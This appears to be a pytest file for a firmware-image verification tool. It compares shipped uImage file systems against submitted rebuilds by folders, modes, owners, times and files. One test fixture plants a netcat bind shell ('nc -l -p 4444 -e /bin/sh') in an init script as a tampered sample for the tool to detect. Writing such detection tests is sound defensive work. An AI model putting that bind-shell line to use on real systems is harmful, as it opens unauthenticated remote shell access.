"""An image and its rebuild by file systems: folders, banks, times in each; honest pairs that are packed otherwise."""

from __future__ import annotations

import gzip
import io
import marshal
import struct
import tarfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from banbury.intake.tasks import shut_down
from banbury.model.evaluation import Evaluation
from banbury.model.rebuild import Rebuilt
from tests.images import PASSWD, tar_of, uimage
from tests.test_rebuild_evaluated import MANIFEST, by_path, only, run, submission

#: Whole evaluations, one for each way of handing in; a plain run has those of test_rebuild_evaluated.
pytestmark = pytest.mark.slow

SOURCE = b"print('reviewed')\n"
MODULE = "usr/lib/__pycache__/m.cpython-311.pyc"
CODE = b"\xa7\r\r\n" + bytes(4) + struct.pack("<II", 1000, len(SOURCE)) + marshal.dumps(compile("1", "m", "exec"))
FILES = {
    "bin/tool": b"#!/bin/sh\necho tool\n",
    "etc/init.d/rc": b"#!/bin/sh\n[ -d /etc/nofirewall ] || /bin/tool\n",
    "etc/passwd": PASSWD,
    "usr/lib/m.py": SOURCE,
    MODULE: CODE,
}
FOLDERS = {
    ".": 0o755, "bin": 0o755, "etc": 0o755, "etc/dropbear": 0o700, "etc/init.d": 0o755, "root": 0o700, "tmp": 0o1777,
    "usr": 0o755, "usr/lib": 0o755, "usr/lib/__pycache__": 0o755,
}  # fmt: skip
REBUILD = '[[artefact]]\npath = "{}"\nrole = "rebuild"\n'


@pytest.fixture(scope="module", autouse=True)
def _workers() -> Iterator[None]:
    yield
    shut_down()


def tree(
    files: dict[str, bytes] | None = None, folders: dict[str, int] | None = None, *, time: int = 2000, owner: int = 0,
    modes: dict[str, int] | None = None, of_folders: int = 0, links: Mapping[str, str] | None = None,
    names: Mapping[str, tuple[str, str]] | None = None,
) -> bytes:  # fmt: skip
    """An archive of a file system; ``time`` is that of m.py, ``of_folders`` that of folders; ``owner`` that of etc,
    ``names`` those of the owners of folders."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, mode in (FOLDERS if folders is None else folders).items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.mode, entry.mtime = tarfile.DIRTYPE, mode, of_folders
            entry.uid = owner if name == "etc" else 0
            entry.uname, entry.gname = (names or {}).get(name, ("", ""))
            archive.addfile(entry)
        for name, target in (links or {}).items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.mode, entry.linkname = tarfile.SYMTYPE, 0o777, target
            archive.addfile(entry)
        for name, data in (FILES if files is None else files).items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(data), (modes or {}).get(name, 0o755)
            entry.mtime = time if name.endswith("m.py") else 0
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def banks(*trees: bytes) -> bytes:
    """An image of some file systems, one behind the other."""
    parts = [uimage(gzip.compress(t, mtime=0), b"bank %d" % n) for n, t in enumerate(trees)]
    return b"".join(p + b"\xff" * (-len(p) % 0x10000) for p in parts)


def bank(number: int) -> str:
    """The place of a file system of :func:`banks`, as a manifest names it."""
    return f"image!uimage{f'#{number + 1}' if number else ''}!bank {number}!content"


def homes(whole: list[int], partly: list[int] | None = None) -> str:
    """A manifest's word on where a rebuild belongs: the numbers of banks."""
    return f"file_systems = {[bank(n) for n in whole]}\npartly_in = {[bank(n) for n in partly or []]}\n"


def against(
    tmp_path: Path, shipped: bytes, word: Mapping[str, str] | None = None, /, **rebuilds: bytes
) -> tuple[Rebuilt, Evaluation]:
    """An image compared with files, each of them a rebuild by the name of its argument; ``word`` is what else the
    manifest says of each."""
    tmp_path.mkdir(exist_ok=True)
    manifest = MANIFEST + "".join(REBUILD.format(name) + (word or {}).get(name, "") for name in rebuilds)
    evaluation = run(submission(tmp_path / "s", manifest, **{"image.bin": shipped}, **rebuilds), tmp_path / "w")
    return only(evaluation), evaluation


def whys(evaluation: Evaluation) -> str:
    return " | ".join(n.why for n in evaluation.ledger.not_compared)


@pytest.mark.parametrize(
    ("folders", "owner", "changed"),
    [
        ({**FOLDERS, "etc": 0o777}, 0, {"etc": ["mode"]}),
        ({**FOLDERS, "tmp": 0o777, "root": 0o755}, 0, {"tmp": ["mode"], "root": ["mode"]}),
        (FOLDERS, 1000, {"etc": ["uid"]}),
        ({**FOLDERS, ".": 0o777}, 0, {".": ["mode"]}),
        ({**FOLDERS, "etc/nofirewall": 0o755}, 0, {"etc/nofirewall": ["added"]}),
    ],
)
def test_folders_of_an_image_are_compared(
    tmp_path: Path, folders: dict[str, int], owner: int, changed: dict[str, list[str]]
) -> None:
    rebuilt, evaluation = against(tmp_path, banks(tree(folders=folders, owner=owner)), **{"built.tar": tree()})
    found = {f.path: [c.what for c in f.changes] for f in rebuilt.files if f.changes}
    rules = {f.rule for f in evaluation.findings}

    assert (rebuilt.method, rebuilt.verdict, rebuilt.files_verdict) == ("files", "functional", "functional")
    assert found == changed
    assert rules & {"rebuild.attribute", "rebuild.special-mode", "rebuild.only-shipped"}


@pytest.mark.parametrize(
    ("path", "mode", "names", "verdict"),
    [
        (".", 0o777, ("", ""), "unexplained"),
        (".", 0o755, ("www-data", "root"), "unexplained"),
        ("etc/init.d", 0o755, ("www-data", "root"), "unexplained"),
        ("etc/init.d", 0o755, ("root", "www-data"), "unexplained"),
        (".", 0o755, ("root", "root"), "identical"),
    ],
)
def test_folders_that_rebuilds_state_otherwise(
    tmp_path: Path, path: str, mode: int, names: tuple[str, str], verdict: str
) -> None:
    """Also the root folder, in which others may rename the rest; and owners by their names, which count first."""
    folders, more = {".": 0o755, "etc/init.d": 0o755}, {"etc/two": b"2"}
    built = {"base.tar": tree(FILES, folders), "two.tar": tree(more, {path: mode}, names={path: names})}
    shipped = tree({**FILES, **more}, {**folders, path: mode}, names={path: names})
    assert against(tmp_path, uimage(gzip.compress(shipped, mtime=0)), {}, **built)[0].verdict == verdict


def test_what_a_package_says_of_the_root_folder_is_no_doubt(tmp_path: Path) -> None:
    """It is what its maker's folder was like; but no other root folder is right for that."""
    control = gzip.compress(tar_of({"./control": b"Package: two\nVersion: 1\nArchitecture: all\n"}), mtime=0)
    found = []
    for mode, of_package in ((0o755, 0o700), (0o777, 0o777)):
        data = gzip.compress(tree({"etc/two": b"2"}, {".": of_package}), mtime=0)
        parts = {"./debian-binary": b"2.0\n", "./control.tar.gz": control, "./data.tar.gz": data}
        shipped = tree({**FILES, "etc/two": b"2"}, {".": mode})
        built = {"base.tar": tree(FILES, {".": 0o755}), "two.ipk": gzip.compress(tar_of(parts), mtime=0)}
        where = tmp_path / f"{mode:o}"
        found.append(against(where, uimage(gzip.compress(shipped, mtime=0)), {}, **built)[0].verdict)

    assert found == ["identical", "unexplained"]


def test_a_folder_that_the_image_lacks_is_left_out(tmp_path: Path) -> None:
    shipped = {n: m for n, m in FOLDERS.items() if n != "etc/dropbear"}
    rebuilt, evaluation = against(tmp_path, banks(tree(folders=shipped)), **{"built.tar": tree()})

    assert rebuilt.verdict == "functional"
    assert [(g.path, g.sort, g.lacks) for g in rebuilt.left_out] == [("etc/dropbear", "protection", "")]
    assert "rebuild.left-out-protection" in {f.rule for f in evaluation.findings}


@pytest.mark.parametrize("lacking", ["rc", "most"])
def test_what_the_second_bank_lacks_is_left_out(tmp_path: Path, lacking: str) -> None:
    gone = {"etc/init.d/rc"} if lacking == "rc" else {"etc/init.d/rc", "usr/lib/m.py", MODULE}
    second = tree({n: d for n, d in FILES.items() if n not in gone})
    rebuilt, evaluation = against(tmp_path, banks(tree(), second), **{"built.tar": tree()})

    assert (rebuilt.files_verdict, rebuilt.verdict) == ("identical", "functional")
    assert {g.path for g in rebuilt.left_out} == gone
    assert all("bank 1" in g.lacks for g in rebuilt.left_out)
    assert any("bank 1" in f.message for f in evaluation.findings if f.rule == "rebuild.left-out-start")
    assert "not in image.bin" in whys(evaluation)


def test_a_small_archive_with_what_the_image_lacks_hides_nothing(tmp_path: Path) -> None:
    gone = "etc/init.d/rc"
    second = tree({gone: FILES[gone]}, {"etc": 0o755, "etc/init.d": 0o755})
    shipped = banks(tree({n: d for n, d in FILES.items() if n != gone}), second)
    rebuilt, _ = against(tmp_path, shipped, **{"built.tar": tree()})

    assert [(g.path, g.sort) for g in rebuilt.left_out] == [(gone, "start")]


@pytest.mark.parametrize("number", [0, 1])
def test_times_decide_in_each_file_system(tmp_path: Path, number: int) -> None:
    """The module is old and ignored in the rebuild and in one bank; in the other it is what runs."""
    trees = [tree(), tree()]
    trees[number] = tree(time=1000)
    rebuilt, evaluation = against(tmp_path, banks(*trees), **{"built.tar": tree()})
    found = [f for f in rebuilt.files if f.changes]

    assert [(f.path, f.verdict) for f in found] == [(MODULE, "functional")]
    assert f"bank {number}" in evaluation.nodes[found[0].node].locator


def test_times_that_decide_nothing_known_are_an_assumption(tmp_path: Path) -> None:
    """Other times of files: the verdict rests on what the rule says, or on nothing where a record withdraws it."""
    plain = {n: d for n, d in FILES.items() if n != MODULE}
    for number, (record, verdict) in enumerate((("", "equivalent/metadata"), ('record = "r.toml"\n', "unexplained"))):
        manifest = MANIFEST + REBUILD.format("built.tar") + record
        data = {"image.bin": banks(tree(plain, time=1000)), "built.tar": tree(plain)}
        folder = submission(tmp_path / str(number), manifest, **data, **{"r.toml": b'observes = ["folder.time"]\n'})
        rebuilt = only(run(folder, tmp_path / f"w{number}"))
        assert (rebuilt.verdict, rebuilt.files_verdict) == (verdict, "identical")
        assert [r.rule for r in rebuilt.reliances] == ([] if record else ["folder.time"])


def test_times_that_rebuilds_state_otherwise_cannot_be_told(tmp_path: Path) -> None:
    package = tree({n: FILES[n] for n in ("usr/lib/m.py", MODULE, "etc/passwd")}, {}, time=1000)
    rebuilt, evaluation = against(tmp_path, banks(tree()), **{"one.tar": tree(folders={}), "two.tar": package})

    assert rebuilt.verdict == "identical"  # the whole system states them
    other = tree({n: FILES[n] for n in ("usr/lib/m.py", "etc/passwd")}, {}, time=2000)
    shipped = banks(tree({**FILES, **{f"usr/share/{n}": b"x" for n in range(9)}}))
    rebuilt, evaluation = against(tmp_path / "2", shipped, **{"one.tar": package, "two.tar": other})
    assert f"{MODULE}: what Python decides by times of files: the rebuild states several" in whys(evaluation)
    assert by_path(rebuilt)[MODULE].verdict == "identical"


def test_a_file_of_another_file_system_of_the_rebuild_is_not_the_same(tmp_path: Path) -> None:
    """A shell of the recovery system, started from the root system too."""
    start, shell = "etc/init.d/S99", b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"
    recovery = tree({"init": b"#!/bin/sh\n", start: shell, "sbin/flash": b"\0flash"}, {".": 0o755})
    built = banks(tree(), recovery)
    honest, _ = against(tmp_path, banks(tree(), recovery), **{"a.img": built, "tool": FILES["bin/tool"]})
    shipped = banks(tree({**FILES, start: shell}), recovery)
    rebuilt, _ = against(tmp_path / "2", shipped, **{"a.img": built, "tool": FILES["bin/tool"]})

    assert (honest.method, honest.verdict, honest.left_out) == ("files", "identical", [])
    assert [[c.what for c in f.changes] for f in rebuilt.files if f.path == start and f.changes] == [["file system"]]
    assert rebuilt.verdict == "functional"


def test_files_of_one_path_in_two_systems_each_have_their_own(tmp_path: Path) -> None:
    """Two banks of a system and its initramfs, against one of each; and the files of the two exchanged."""
    small = {"init": b"#!/bin/sh\n", "etc/passwd": b"root::0:0::/:/bin/sh\n", "bin/mount": b"\0mount"}
    built = banks(tree(), tree(small, {".": 0o755}))
    honest = banks(tree(), tree(), tree(small, {".": 0o755}))
    rebuilt, _ = against(tmp_path, honest, **{"a.img": built, "tool": FILES["bin/tool"]})
    assert (rebuilt.verdict, rebuilt.left_out) == ("identical", [])

    second = tree({**FILES, "etc/passwd": small["etc/passwd"]})
    rebuilt, _ = against(tmp_path / "2", banks(tree(), second), **{"a.img": built, "tool": FILES["bin/tool"]})
    assert [f.verdict for f in rebuilt.files if f.path == "etc/passwd"] == ["identical", "functional"]


@pytest.mark.parametrize(
    ("shipped", "handed"),
    [
        (banks(tree(), tree()), {"built.tar": tree()}),
        (banks(tree(), tree()), {"a.img": banks(tree(), tree()), "tool": FILES["bin/tool"]}),
        (banks(tree(), tree()), {"a.img": banks(tree()), "tool": FILES["bin/tool"]}),
        (banks(tree()), {"a.img": banks(tree(), tree()), "tool": FILES["bin/tool"]}),
        (banks(tree()), {"built.tar": tree(folders={})}),
        (banks(tree(folders={})), {"built.tar": tree(folders={n: m for n, m in FOLDERS.items() if m == 0o755})}),
        (banks(tree(of_folders=77)), {"built.tar": tree()}),
        (banks(tree({n: d for n, d in FILES.items() if "lib" not in n})), {
            f"root/{n}": d for n, d in FILES.items() if "lib" not in n
        }),
    ],
    ids=["banks", "banks-two", "banks-one", "bank-two", "no-folders", "none-shipped", "times", "folder"],
)  # fmt: skip
def test_honest_images_are_identical(tmp_path: Path, shipped: bytes, handed: dict[str, bytes]) -> None:
    named = {"root" if name.startswith("root/") else name for name in handed}
    manifest = MANIFEST + "".join(REBUILD.format(name) for name in sorted(named))
    evaluation = run(submission(tmp_path / "s", manifest, **{"image.bin": shipped}, **handed), tmp_path / "w")
    rebuilt = only(evaluation)

    assert (rebuilt.method, rebuilt.verdict, rebuilt.left_out) == ("files", "identical", [])
    if named == {"root"}:
        assert "modes and owners of 3 files" in whys(evaluation)
        assert "folders (the root folder, bin, etc and" in whys(evaluation)


def test_packages_without_the_systems_folders(tmp_path: Path) -> None:
    """Two packages make the system; one of them is in an initramfs in part, which lacks nothing."""
    parts = [{n: d for n, d in FILES.items() if ("lib" in n) is lib} for lib in (True, False)]
    folders = {n: m for n, m in FOLDERS.items() if m == 0o755 and n != "."}
    one, two = (tree(p, {n: m for n, m in folders.items() if any(f.startswith(n + "/") for f in p)}) for p in parts)
    small = tree({n: FILES[n] for n in ("bin/tool", "etc/passwd")}, {"bin": 0o755, "etc": 0o755})
    shipped = banks(tree(folders=folders), small)
    rebuilt, evaluation = against(tmp_path, shipped, **{"one.tar": one, "two.tar": two})
    assert (rebuilt.files_verdict, rebuilt.verdict, rebuilt.left_out) == ("identical", "unexplained", [])
    assert "has only a part of two.tar" in whys(evaluation)
    assert "rebuild.unclear" in {f.rule for f in evaluation.findings}

    rebuilt, evaluation = against(
        tmp_path / "2", shipped, {"one.tar": homes([0]), "two.tar": homes([0], [1])}, **{"one.tar": one, "two.tar": two}
    )
    assert (rebuilt.verdict, rebuilt.left_out) == ("identical", [])
    assert "the manifest says that it has only a part of two.tar" in whys(evaluation)
    assert [len(s.stated) for s in rebuilt.file_systems] == [2, 1]


def test_names_in_an_archive_that_is_no_system(tmp_path: Path) -> None:
    """What is started by its name is another file; and the same where a name stands twice, or has other content."""
    good, evil = b"#!/bin/sh\necho good\n", b"#!/bin/sh\necho evil\n"
    built = {"app/start.sh": good, "app/test.sh": evil, "app/copy.sh": good}
    honest, _ = against(tmp_path, banks(tree(built, {})), **{"built.tar": tree(built, {})})
    assert (honest.method, honest.verdict, honest.left_out) == ("files", "identical", [])

    for number, start in enumerate((evil, b"#!/bin/sh\necho other\n")):
        shipped = banks(tree({**built, "app/start.sh": start, "app/test.sh": good}, {}))
        rebuilt, _ = against(tmp_path / str(number), shipped, **{"built.tar": tree(built, {})})
        found = {f.path.rpartition("!")[2]: f.verdict for f in rebuilt.files}
        assert found == {"app/start.sh": "functional", "app/test.sh": "functional", "app/copy.sh": "identical"}
    renamed = {n.replace("test", "best"): data for n, data in built.items()}
    rebuilt, _ = against(tmp_path / "r", banks(tree(renamed, {})), **{"built.tar": tree(built, {})})
    assert [[(c.what, c.rebuilt) for c in f.changes] for f in rebuilt.files if f.changes] == [[("path", "app/test.sh")]]


def test_each_image_is_asked_for_what_most_of_it_is(tmp_path: Path) -> None:
    """One of two images of one system lacks a file; no manifest says which the rebuild is of."""
    gone = "etc/init.d/rc"
    less = banks(tree({n: d for n, d in FILES.items() if n != gone}))
    manifest = MANIFEST + '[[artefact]]\npath = "other.bin"\nrole = "image"\n' + REBUILD.format("built.tar")
    data = {"image.bin": banks(tree()), "other.bin": less, "built.tar": tree()}
    evaluation = run(submission(tmp_path / "s", manifest, **data), tmp_path / "w")
    found = {evaluation.nodes[r.image].name: [g.path for g in r.left_out] for r in evaluation.rebuilds}

    assert found == {"image.bin": [], "other.bin": [gone]}


def test_a_file_system_without_a_counterpart_has_folders_of_its_own(tmp_path: Path) -> None:
    """A kernel's own initramfs beside the system that was rebuilt."""
    small = tree({"bin/tool": FILES["bin/tool"]}, {"dev": 0o755, "root": 0o755, "bin": 0o700})
    word = {"built.tar": homes([0], [1])}
    rebuilt, evaluation = against(tmp_path, banks(tree(), small), word, **{"built.tar": tree()})

    assert (rebuilt.verdict, rebuilt.left_out) == ("identical", [])
    assert "3 folders (dev, root, bin): the rebuild has no file system like this one" in whys(evaluation)


@pytest.mark.parametrize(("mode", "said"), [(0o777, ["mode"]), (0o755, []), (0o4755, ["mode"])])
def test_a_file_handed_in_alone_may_not_be_anybodys(tmp_path: Path, mode: int, said: list[str]) -> None:
    shipped = banks(tree({"bin/tool": FILES["bin/tool"]}, {}, modes={"bin/tool": mode}))
    rebuilt, evaluation = against(tmp_path, shipped, tool=FILES["bin/tool"])

    assert [[c.what for c in f.changes] for f in rebuilt.files] == [said]
    assert "modes and owners of 1 files" in whys(evaluation)
